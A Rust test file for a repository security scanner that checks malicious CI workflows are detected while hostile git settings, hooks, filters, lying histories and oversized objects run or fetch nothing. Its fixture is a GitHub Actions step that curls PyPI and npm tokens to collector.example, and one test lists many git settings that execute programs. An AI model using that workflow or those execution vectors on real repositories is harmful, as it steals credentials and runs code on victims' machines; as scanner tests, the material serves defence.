//! Repositories that want to be more than data: settings that run programs, remotes that promise objects, histories
//! that lie, objects made to exhaust the reader. Nothing of it runs, nobody is asked, and the theft is found.

#![allow(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking")]

mod repository;

use std::fs;
use std::io::Write;
use std::net::TcpListener;
use std::path::Path;
use std::process::{Command, Stdio};

use portcullis_scan::report::{Document, Verdict};
use portcullis_scan::{Options, scan};
use repository::Repository;

const PATH: &str = ".github/workflows/z.yml";
const STEAL: &str = "on: [push]\njobs:\n  send:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -d 'A=${{ secrets.PYPI_API_TOKEN }}&B=${{ secrets.NPM_TOKEN }}' https://collector.example/in\n";

fn scanned(path: &Path) -> Document {
    scan(&Options { paths: vec![path.to_owned()], ..Options::default() }).document
}

fn kinds(document: &Document) -> Vec<&str> {
    document.problems.iter().map(|problem| problem.kind.as_str()).collect()
}

fn thefts(document: &Document) -> usize {
    document.findings.iter().filter(|finding| finding.verdict == Verdict::Malicious).count()
}

fn with_theft() -> Repository {
    let repository = Repository::new();
    repository.write(PATH, STEAL);
    repository.commit("one");
    repository
}

/// Stores an object as git would, whatever it holds; returns its id.
fn store(repository: &Repository, kind: &str, bytes: &[u8]) -> String {
    let mut child = Command::new("git")
        .args(["hash-object", "-t", kind, "-w", "--stdin", "--literally"])
        .current_dir(repository.path())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(bytes).unwrap();
    String::from_utf8(child.wait_with_output().unwrap().stdout).unwrap().trim().to_owned()
}

/// Every setting that makes git run a program, in a repository that also ships hooks and filters.
#[test]
fn settings_hooks_and_filters_run_nothing() {
    let repository = with_theft();
    let canary = repository.path().join("canary");
    let program = repository.path().join(".git/touch.sh");
    fs::write(&program, format!("#!/bin/sh\ntouch '{}'\n", canary.display())).unwrap();
    fs::set_permissions(&program, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let shown = program.display();
    let settings = format!(
        "[core]\n\tfsmonitor = {shown}\n\thooksPath = {0}\n\tsshCommand = {shown}\n\tpager = {shown}\n\teditor = {shown}\n\taskPass = {shown}\n\tgitProxy = {shown}\n\
         [diff]\n\texternal = {shown}\n[filter \"x\"]\n\tclean = {shown}\n\tsmudge = {shown}\n\tprocess = {shown}\n\trequired = true\n\
         [credential]\n\thelper = {shown}\n[uploadpack]\n\tpackObjectsHook = {shown}\n[gpg]\n\tprogram = {shown}\n\
         [alias]\n\tlog = !{shown}\n\tstatus = !{shown}\n[include]\n\tpath = /dev/tty\n[includeIf \"gitdir:/\"]\n\tpath = ../../elsewhere\n",
        repository.path().join(".git/hooks").display(),
    );
    fs::write(repository.path().join(".gitattributes"), "* filter=x diff=x\n").unwrap();
    fs::create_dir_all(repository.path().join(".git/hooks")).unwrap();
    for hook in
        ["post-checkout", "pre-commit", "fsmonitor-watchman", "post-index-change", "reference-transaction"]
    {
        fs::copy(&program, repository.path().join(".git/hooks").join(hook)).unwrap();
    }
    let config = repository.path().join(".git/config");
    let before = fs::read_to_string(&config).unwrap();
    fs::write(&config, before + &settings).unwrap();
    let document = scanned(repository.path());
    assert_eq!((thefts(&document), kinds(&document).len()), (1, 0), "{:?}", document.problems);
    assert!(!canary.exists());
    // The canary does sing where git is asked.
    let with_program = fs::read_to_string(&config).unwrap().replace("/dev/tty", "nothing");
    fs::write(&config, with_program).unwrap();
    Command::new("git").arg("status").current_dir(repository.path()).output().unwrap();
    assert!(canary.exists());
}

/// A partial clone: git itself would fetch what is missing from the remote that promised it.
#[test]
fn a_remote_that_promises_objects_is_not_asked() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let address = listener.local_addr().unwrap();
    let repository = with_theft();
    repository.write("src/large", "promised");
    repository.write(".github/workflows/other.yml", "on: push\njobs: {}\n");
    repository.commit("two");
    for path in ["HEAD:src/large", "HEAD:.github/workflows/other.yml"] {
        let id = repository.git(&["rev-parse", path]).trim().to_owned();
        let (folder, name) = id.split_at(2);
        fs::remove_file(repository.path().join(".git/objects").join(folder).join(name)).unwrap();
    }
    let config = repository.path().join(".git/config");
    let before = fs::read_to_string(&config)
        .unwrap()
        .replace("repositoryformatversion = 0", "repositoryformatversion = 1");
    let promise = format!(
        "[extensions]\n\tpartialClone = origin\n[remote \"origin\"]\n\turl = http://{address}/owner/name.git\n\tpromisor = true\n\tpartialclonefilter = blob:none\n"
    );
    fs::write(&config, before + &promise).unwrap();
    fs::remove_file(repository.path().join(".github/workflows/other.yml")).unwrap();
    let document = scanned(repository.path());
    assert_eq!((thefts(&document), kinds(&document)), (1, vec!["missing-object"]), "{:?}", document.problems);
    assert!(!document.complete);
    assert!(listener.accept().is_err(), "the scan asked the remote");
}

#[test]
fn a_work_tree_that_settings_put_elsewhere_is_not_read() {
    let elsewhere = tempfile::tempdir().unwrap();
    fs::create_dir_all(elsewhere.path().join(".github/workflows")).unwrap();
    fs::write(elsewhere.path().join(PATH), STEAL).unwrap();
    let repository = Repository::new();
    repository.write(".github/workflows/ok.yml", "on: push\njobs: {}\n");
    repository.commit("one");
    repository.git(&["config", "core.worktree", &elsewhere.path().display().to_string()]);
    let document = scanned(repository.path());
    assert_eq!((thefts(&document), document.stats.workflow_versions), (0, 1));
}

#[test]
fn grafts_hide_no_commit_and_are_told() {
    let repository = with_theft();
    repository.remove(PATH);
    let second = repository.commit("two");
    // "The second commit has no parent."
    fs::create_dir_all(repository.path().join(".git/info")).unwrap();
    fs::write(repository.path().join(".git/info/grafts"), format!("{second}\n")).unwrap();
    let document = scanned(repository.path());
    assert_eq!((thefts(&document), kinds(&document)), (1, vec!["ignored-replacements"]));
    let removed = document.findings.first().and_then(|finding| {
        let exposure = finding.exposures.first()?;
        exposure.refs.first()?.removed.clone()
    });
    assert_eq!(removed.map(|moment| moment.commit), Some(second));
}

#[test]
fn a_shallow_file_that_lies_hides_no_parent() {
    let repository = with_theft();
    repository.remove(PATH);
    let second = repository.commit("two");
    fs::write(repository.path().join(".git/shallow"), format!("{second}\n")).unwrap();
    let document = scanned(repository.path());
    assert_eq!((thefts(&document), kinds(&document)), (1, vec!["history-incomplete"]));
    assert!(!document.complete);
}

#[test]
fn pipes_in_the_git_folder_block_nothing() {
    for name in
        [".git/info/grafts", ".git/shallow", ".git/packed-refs", ".git/refs/heads/pipe", ".git/logs/pipe"]
    {
        let repository = with_theft();
        let at = repository.path().join(name);
        fs::create_dir_all(at.parent().unwrap()).unwrap();
        let _ = fs::remove_file(&at);
        assert!(Command::new("mkfifo").arg(&at).status().unwrap().success());
        assert_eq!(thefts(&scanned(repository.path())), 1, "{name}");
    }
}

/// A commit whose root tree holds the workflows' folder and is so many bytes large.
fn with_wide_tree(bytes: usize) -> Repository {
    let repository = with_theft();
    let github = repository.git(&["rev-parse", "HEAD:.github"]).trim().to_owned();
    let raw = |id: &str| -> Vec<u8> {
        id.as_bytes()
            .chunks(2)
            .map(|pair| u8::from_str_radix(std::str::from_utf8(pair).unwrap(), 16).unwrap())
            .collect()
    };
    let blob = raw(repository.git(&["rev-parse", &format!("HEAD:{PATH}")]).trim());
    let mut tree = [b"40000 .github\0".as_slice(), &raw(&github)].concat();
    let mut at = 0;
    // Every entry has 64 bytes; the last one's name takes up what is left.
    while bytes - tree.len() >= 128 {
        tree.extend([format!("100644 {at:036}\0").as_bytes(), &blob].concat());
        at += 1;
    }
    let left = bytes - tree.len() - "100644 \0".len() - blob.len();
    tree.extend([format!("100644 {}\0", "z".repeat(left)).as_bytes(), &blob].concat());
    assert_eq!(tree.len(), bytes);
    let tree = store(&repository, "tree", &tree);
    let commit = repository.git(&["commit-tree", &tree, "-m", "wide"]).trim().to_owned();
    repository.git(&["update-ref", "refs/heads/main", &commit]);
    repository.git(&["reflog", "expire", "--expire=now", "--all"]);
    repository.git(&["prune", "--expire=now"]);
    fs::remove_file(repository.path().join(PATH)).unwrap();
    repository
}

#[test]
fn trees_as_wide_as_the_limit() {
    let limit = 8 * 1024 * 1024;
    let document = scanned(with_wide_tree(limit).path());
    assert_eq!((thefts(&document), kinds(&document).len()), (1, 0), "{:?}", document.problems);
    let document = scanned(with_wide_tree(limit + 1).path());
    assert_eq!((thefts(&document), kinds(&document)), (0, vec!["too-large"]), "{:?}", document.problems);
    assert!(!document.complete);
}

#[test]
fn commits_as_long_as_the_limit() {
    let limit = 1024 * 1024;
    for (size, read) in [(limit, true), (limit + 1, false)] {
        let repository = with_theft();
        let tree = repository.git(&["rev-parse", "HEAD^{tree}"]).trim().to_owned();
        let mut commit = format!(
            "tree {tree}\nauthor T <t@example.test> 1 +0000\ncommitter T <t@example.test> 1 +0000\n\n"
        );
        commit.push_str(&"m".repeat(size - commit.len()));
        let id = store(&repository, "commit", commit.as_bytes());
        repository.git(&["update-ref", "refs/heads/main", &id]);
        repository.git(&["reflog", "expire", "--expire=now", "--all"]);
        repository.git(&["prune", "--expire=now"]);
        fs::remove_file(repository.path().join(PATH)).unwrap();
        let document = scanned(repository.path());
        assert_eq!(
            (thefts(&document), document.complete),
            (usize::from(read), read),
            "{:?}",
            document.problems
        );
        if !read {
            assert_eq!(kinds(&document), ["too-large"]);
        }
    }
}

/// Larger than any file that is read: a problem, and a finding.
#[test]
fn a_workflow_too_large_to_be_read_is_a_finding() {
    for size in [16 * 1024 * 1024, 16 * 1024 * 1024 + 1] {
        let repository = Repository::new();
        let mut text = STEAL.as_bytes().to_vec();
        text.resize(size, b'\n');
        repository.write_bytes(PATH, &text);
        // In the work tree first, then among the objects.
        for _ in 0..2 {
            let document = scanned(repository.path());
            let rules: Vec<&str> = document.findings.iter().map(|finding| finding.rule.as_str()).collect();
            assert_eq!((rules, kinds(&document)), (vec!["unanalysed-workflow"], vec!["too-large"]));
            repository.commit("x");
            let _ = fs::remove_file(repository.path().join(PATH));
        }
    }
}

/// GitHub would refuse these; one mended line later they would run.
#[test]
fn what_github_would_refuse_is_searched_and_says_so() {
    let without_trigger = STEAL.replace("on: [push]\n", "");
    let without_runner = STEAL.replace("    runs-on: ubuntu-latest\n", "");
    let unknown_key = STEAL.replace("    steps:\n", "    stages: [x]\n    steps:\n");
    for text in [without_trigger, without_runner, unknown_key] {
        let repository = Repository::new();
        repository.write(PATH, &text);
        let document = scanned(repository.path());
        let signals = document.findings.first().map(|finding| finding.signals.clone()).unwrap_or_default();
        assert_eq!(thefts(&document), 1, "{text} {:?}", document.problems);
        assert!(format!("{signals:?}").contains("could-not-run"), "{text} {signals:?}");
    }
    let repository = Repository::new();
    repository.write(PATH, &STEAL.replace("      - run: |", "      - run: make\n        run: |"));
    let document = scanned(repository.path());
    assert!(document.findings.iter().any(|finding| finding.rule == "unanalysed-workflow"
        && finding.verdict == Verdict::Suspicious
        && format!("{:?}", finding.signals).contains("could-not-run")));
    assert_eq!(kinds(&document), ["invalid-yaml"]);
    let repository = with_theft();
    let signals = scanned(repository.path()).findings.first().map(|finding| finding.signals.clone());
    assert!(!format!("{signals:?}").contains("could-not-run"));
}
